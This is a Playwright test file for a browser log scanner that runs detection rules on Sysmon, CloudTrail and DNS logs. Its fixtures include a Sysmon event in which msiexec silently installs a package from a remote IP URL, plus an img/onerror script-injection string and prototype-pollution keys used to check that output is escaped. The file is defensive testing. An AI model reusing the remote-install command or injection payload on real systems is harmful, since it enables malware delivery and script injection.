import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import AxeBuilder from '@axe-core/playwright';
import { expect, type Page, test } from '@playwright/test';
import { longLog, open, said, saved } from './scan-page.ts';

const PROJECT = fileURLToPath(new URL('..', import.meta.url));
const SAMPLES = join(PROJECT, 'content/samples');
const RECORDED = join(PROJECT, '../shared/events/sigma_regression');

const sample = (rule: string, file: string) => readFileSync(join(SAMPLES, rule, file));
const MSIEXEC = () => sample('windows_msiexec_package_from_remote_url', 'true_positive.log');

interface Log {
  name: string;
  body: Buffer | string;
}

async function choose(page: Page, ...logs: Log[]): Promise<void> {
  await page.getByLabel('Log files').setInputFiles(
    logs.map(({ name, body }) => ({
      name,
      mimeType: 'application/octet-stream',
      buffer: Buffer.from(body),
    })),
  );
}

async function scanned(page: Page, ...logs: Log[]): Promise<void> {
  await choose(page, ...logs);
  await expect(said(page)).toContainText(/fired on [\d,]+ events?\./, { timeout: 30_000 });
}

async function violations(page: Page): Promise<string[]> {
  const found = await new AxeBuilder({ page }).include('main').analyze();
  return found.violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`);
}

test.beforeEach(async ({ page }) => {
  await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
    throw new Error(`A request left the origin: ${route.request().url()}`);
  });
});

test.describe('the report is the one that a terminal gives', () => {
  const csv = [
    'sourcetype,source,host,_time,EventID,Channel,Computer,Image,CommandLine,OriginalFileName,ParentImage,User',
    'XmlWinEventLog,XmlWinEventLog:Microsoft-Windows-Sysmon/Operational,ws1,1790000000,1,Microsoft-Windows-Sysmon/Operational,ws1,C:\\Windows\\System32\\msiexec.exe,msiexec.exe /q /i http://203.0.113.9/a.msi,msiexec.exe,C:\\Windows\\System32\\cmd.exe,EX\\anna',
    'XmlWinEventLog,XmlWinEventLog:Microsoft-Windows-Sysmon/Operational,ws1,1790000001,1,Microsoft-Windows-Sysmon/Operational,ws1,C:\\Windows\\System32\\notepad.exe,notepad.exe a.txt,notepad.exe,C:\\Windows\\explorer.exe,EX\\anna',
  ].join('\n');
  const evtx = () =>
    readdirSync(RECORDED, { recursive: true, encoding: 'utf8' })
      .filter((file) => file.endsWith('.evtx'))
      .sort()
      .slice(0, 8)
      .map((file, at) => ({ name: `${at}.evtx`, body: readFileSync(join(RECORDED, file)) }));
  const LOGS: Record<string, { logs: () => Log[]; fires: boolean }> = {
    ndjson: {
      logs: () => [
        { name: 'a.ndjson', body: sample('aws_cloudtrail_logging_stopped', 'true_positive.ndjson') },
        { name: 'b.ndjson', body: sample('dns_burst_of_names_that_do_not_exist', 'true_positive.ndjson') },
      ],
      fires: true,
    },
    xml: {
      logs: () => [
        { name: 'a.xml', body: MSIEXEC() },
        {
          name: 'b.xml',
          body: sample('windows_discovery_commands_in_quick_succession', 'true_positive.log'),
        },
      ],
      fires: true,
    },
    csv: { logs: () => [{ name: 'a.csv', body: csv }], fires: true },
    evtx: { logs: evtx, fires: false },
  };
  for (const [format, { logs, fires }] of Object.entries(LOGS)) {
    test(format, async ({ page }) => {
      test.skip(format === 'evtx' && !existsSync(RECORDED), 'no recorded events lie at ../shared/events');
      test.setTimeout(90_000);
      const given = logs();
      const folder = mkdtempSync(join(tmpdir(), 'scan-'));
      try {
        for (const { name, body } of given) writeFileSync(join(folder, name), body);
        const { stdout } = spawnSync(
          'node',
          [
            join(PROJECT, 'lib/cli/sightline.mjs'),
            'scan',
            ...given.map(({ name }) => name),
            ...['--content', join(PROJECT, 'content'), '--format', 'json'],
          ],
          { cwd: folder, encoding: 'utf8', maxBuffer: 1 << 26 },
        );
        await open(page);
        await choose(page, ...given);
        await expect(page.getByRole('button', { name: 'Scan again' })).toBeVisible({ timeout: 30_000 });
        const expected = JSON.parse(stdout);
        if (fires) expect(expected.hits.length).toBeGreaterThan(0);
        if (expected.hits.length > 0) expect(JSON.parse(await saved(page, 'Save JSON'))).toEqual(expected);
        else await expect(said(page)).toContainText('None of');
        await expect(said(page)).toContainText(`${expected.events.toLocaleString('en')} event`);
      } finally {
        rmSync(folder, { recursive: true });
      }
    });
  }
});

test('a row opens the events, the explanation, and what else could explain it', async ({ page }) => {
  test.setTimeout(60_000);
  await open(page);
  await scanned(page, { name: 'sysmon.xml', body: MSIEXEC() });
  await page.getByRole('button', { name: 'Windows Msiexec Package From Remote URL' }).click();
  const panel = page.locator('.hit-panel');
  await expect(panel).toContainText('What else could explain it');
  await expect(panel.locator('.messages li').first()).not.toBeEmpty();
  await expect(panel.getByRole('link', { name: 'The rule’s page' })).toHaveAttribute(
    'href',
    '/detections/windows-msiexec-package-from-remote-url/',
  );
  await panel.getByRole('button', { name: /^Why event 1 matches/ }).click();
  await expect(panel.locator('.event .clauses .good').first()).toBeVisible();
  await expect(panel.locator('.event')).toContainText('msiexec.exe');
  await panel.getByText(/result rows?$/).click();
  await expect(panel.getByRole('table', { name: 'Rows' })).toBeVisible();
  expect(await violations(page)).toEqual([]);
  // The tester gets the events of the hit along.
  const link = panel.getByRole('link', { name: /Open in the tester, with these events/ });
  await link.click();
  await expect(page).toHaveURL(/\/tester\/\?rule=windows-msiexec-package-from-remote-url#try=/);
  await expect(page.locator('.verdict')).toContainText(/Matches [1-9]/);
});

test('results are narrowed, grouped, and taken along', async ({ page }) => {
  await open(page);
  await scanned(
    page,
    { name: 'sysmon.xml', body: MSIEXEC() },
    { name: 'trail.ndjson', body: sample('aws_cloudtrail_logging_stopped', 'true_positive.ndjson') },
  );
  const rows = page.locator('.hits tbody tr');
  const all = await rows.count();
  expect(all).toBeGreaterThan(1);
  await page.getByLabel('Rules that contain').fill('msiexec');
  await expect(rows).not.toHaveCount(all);
  await page.getByLabel('Rules that contain').fill('no such rule');
  await expect(page.locator('.scan .nothing')).toBeVisible();
  await page.getByRole('button', { name: 'Show everything' }).click();
  await expect(rows).toHaveCount(all);
  await page.getByLabel('Technique').selectOption({ index: 1 });
  await expect(rows).not.toHaveCount(all);
  await page.getByLabel('Technique').selectOption({ index: 0 });
  await page.getByLabel('Grouping').selectOption('technique');
  await expect(page.locator('.group h3').first()).toContainText(/T\d{4}/);
  await page.getByLabel('Grouping').selectOption('none');
  // A bar of the time line narrows the results to its time, by keyboard too.
  const bar = page.locator('.timeline .bar').first();
  await bar.focus();
  await page.keyboard.press('Enter');
  await expect(bar).toHaveAttribute('aria-pressed', 'true');
  await expect(rows).not.toHaveCount(all);
  await page.keyboard.press('Enter');
  await expect(rows).toHaveCount(all);
  const csv = await saved(page, 'Save CSV');
  expect(csv.trim().split('\n')).toHaveLength(all + 1);
  const layer = JSON.parse(await saved(page, 'Save ATT&CK Navigator layer'));
  expect(layer).toMatchObject({ domain: 'enterprise-attack', versions: { layer: '4.5' } });
  expect(layer.techniques.length).toBeGreaterThan(0);
});

test('a link chooses the rules, and a severity is the least that runs', async ({ page }) => {
  await open(page, '?rules=windows-msiexec-package-from-remote-url,no-such-rule');
  const line = page.locator('.rules-line output');
  await expect(line).toContainText(/^1 of \d+ rules will run\. This site has no rule no-such-rule\.$/);
  await scanned(page, { name: 'sysmon.xml', body: MSIEXEC() });
  await expect(said(page)).toContainText('1 of 1 rule fired');
  await page.getByLabel('Severity', { exact: true }).selectOption('critical');
  await expect(page).toHaveURL(
    /rules=windows-msiexec-package-from-remote-url,no-such-rule&severity=critical/,
  );
  await expect(line).toContainText(/^0 of/);
  await page.getByRole('button', { name: 'Scan again' }).click();
  await expect(page.locator('.scan [role="alert"]')).toContainText('No rule is chosen');
  await page.getByRole('button', { name: 'Run all rules instead' }).click();
  await expect(line).not.toContainText(/^0 of/);
  await page.reload();
  await expect(page.getByLabel('Severity', { exact: true })).toHaveValue('critical');
});

test('a cancelled scan keeps what it found and says that it is a part', async ({ page }, info) => {
  test.setTimeout(60_000);
  const path = info.outputPath('long.ndjson');
  longLog(path, 250_000);
  await open(page);
  await page.getByLabel('Log files').setInputFiles(path);
  const found = page.getByRole('button', { name: 'Shadow Copy Reached Through Symlink' });
  await expect(found).toBeVisible({ timeout: 20_000 });
  await expect(page.getByRole('progressbar')).toBeVisible();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(said(page)).toContainText(/^Cancelled\. 1 of \d+ rules fired on [\d,]+ events/);
  await expect(said(page)).not.toContainText('on 250,000');
  await expect(found).toBeVisible();
  expect(JSON.parse(await saved(page, 'Save JSON'))).toMatchObject({ complete: false });
  await page.getByRole('button', { name: 'Clear' }).click();
  await expect(page.locator('.scan .verdict')).toHaveCount(0);
  await scanned(page, { name: 'sysmon.xml', body: MSIEXEC() });
});

test('a worker that is silent is ended, and the page lives on', async ({ page }) => {
  await page.clock.install();
  await open(page);
  await page.evaluate(() => {
    // The worker is swallowed by a loop, as by a fault of the engine: only ending it helps.
    const { prototype } = Worker as unknown as { prototype: { postMessage: (message: unknown) => void } };
    const post = prototype.postMessage;
    let first = true;
    prototype.postMessage = function (this: Worker, message: unknown) {
      if (first && (message as { method?: string }).method === 'scan') {
        first = false;
        return;
      }
      post.call(this, message);
    };
  });
  await choose(page, { name: 'sysmon.xml', body: MSIEXEC() });
  await expect(page.locator('.scan')).toContainText('0 of');
  await page.clock.fastForward(121_000);
  await expect(said(page)).toContainText('The scan ended early: It took longer than 120 seconds');
  await page.getByRole('button', { name: 'Scan again' }).click();
  await expect(said(page)).toContainText(/fired on \d+ event/);
});

test('says what could not be read, and that nothing fired', async ({ page }) => {
  await open(page);
  await choose(page, { name: 'broken.gz', body: Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3, 4, 5]) });
  await expect(page.locator('.scan .verdict .fail').first()).toContainText('broken.gz');
  await choose(page, { name: 'quiet.ndjson', body: '{"a": 1}\n{"a": 2}\n{"a": \n' });
  await expect(said(page)).toContainText('None of');
  await expect(page.locator('.scan .verdict details').first()).toContainText('quiet.ndjson');
});

test('says so where the rules cannot be loaded, and can try again', async ({ page }) => {
  await page.route('**/scan/rules.json', (route) => route.fulfill({ status: 503 }), { times: 1 });
  await open(page);
  await choose(page, { name: 'sysmon.xml', body: MSIEXEC() });
  await expect(page.locator('.scan [role="alert"], .scan .fail').first()).toContainText(
    'could not be loaded (503)',
  );
  await scanned(page, { name: 'sysmon.xml', body: MSIEXEC() });
});

test('works by keyboard alone', async ({ page }) => {
  await open(page);
  await page.getByLabel('Or paste a log').focus();
  await page.keyboard.insertText(MSIEXEC().toString('utf8'));
  await page.keyboard.press('Tab');
  await expect(page.getByRole('button', { name: 'Use the pasted log' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(said(page)).toContainText(/fired on \d+ event/);
  const rule = page.getByRole('button', { name: 'Windows Msiexec Package From Remote URL' });
  await rule.focus();
  await page.keyboard.press('Enter');
  await expect(rule).toHaveAttribute('aria-expanded', 'true');
  await page.getByRole('button', { name: /^Why event 1 matches/ }).focus();
  await page.keyboard.press('Enter');
  await expect(page.locator('.event h3')).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(page.locator('.event')).toHaveCount(0);
  await rule.focus();
  await page.keyboard.press('Enter');
  await expect(page.locator('.hit-panel')).toHaveCount(0);
});

test('HTML and odd names in a log are text', async ({ page }) => {
  await open(page);
  const problems: string[] = [];
  page.on('pageerror', (error) => problems.push(String(error)));
  page.on('dialog', () => problems.push('a dialog opened'));
  // Values of XML keep their references: what stands in the file is what is shown, not what it refers to.
  const image = '&lt;img src=x onerror=alert(1)>';
  const body = MSIEXEC()
    .toString('utf8')
    .replaceAll(/<Computer>[^<]*<\/Computer>/g, `<Computer>${image}</Computer>`);
  await scanned(
    page,
    { name: '<b>.xml', body },
    { name: 'odd.ndjson', body: '{"__proto__": "p", "constructor": "c", "toString": "t"}\n' },
  );
  await expect(page.locator('.hits')).toContainText(image);
  await page.getByRole('button', { name: 'Windows Msiexec Package From Remote URL' }).click();
  await page.getByRole('button', { name: /^Why event 1 matches/ }).click();
  await expect(page.locator('.event')).toContainText(image);
  await expect(page.locator('.hit-panel')).toContainText('<b>.xml');
  expect(await page.locator('.scan img, .scan .hit-panel aside b').count()).toBe(0);
  expect(problems).toEqual([]);
});

test('loads nothing before there is a log, and is accessible empty', async ({ page }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await open(page);
  await page.waitForLoadState('networkidle');
  expect(asked.some((url) => /rules\.json|scan-worker|environment\.json/.test(url))).toBe(false);
  expect(await violations(page)).toEqual([]);
});

test('fits a phone', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await open(page);
  await scanned(page, { name: 'sysmon.xml', body: MSIEXEC() });
  await page.getByRole('button', { name: 'Windows Msiexec Package From Remote URL' }).click();
  await page.getByRole('button', { name: /^Why event 1 matches/ }).click();
  await expect(page.locator('.hit-panel .event')).toBeVisible();
  expect(
    await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth),
  ).toBeLessThanOrEqual(0);
});
